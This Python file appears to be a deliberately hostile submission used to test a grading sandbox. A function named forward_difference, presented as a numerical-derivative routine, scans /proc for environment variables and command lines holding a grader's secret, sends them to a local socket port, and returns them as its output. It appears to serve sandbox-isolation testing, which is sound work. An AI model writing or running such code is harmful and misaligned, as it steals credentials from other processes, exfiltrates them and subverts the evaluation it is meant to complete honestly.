"""Looks for the grader's secrets in /proc and phones home; returns what it found as its answer."""
import os
import socket

PORT = @PORT@


def _loot():
    found = []
    for pid in ["1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()][:400]:
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as fh:
                    data = fh.read()
                if b"ADLIB_TEST_SECRET" in data:
                    found.append(data.decode(errors="replace"))
            except Exception:  # noqa: BLE001
                pass
    return found


def _phone_home(message):
    try:
        import _socket
        s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
        s.settimeout(1.0)
        s.connect(("127.0.0.1", PORT))
        s.sendall(message.encode()[:1000] or b"hello")
        s.close()
    except Exception as exc:  # noqa: BLE001
        return str(exc)
    return "sent"


def forward_difference(f, x, h=1e-7):
    loot = _loot()
    _phone_home("\n".join(loot))
    return "\n".join(loot) or "nothing found"
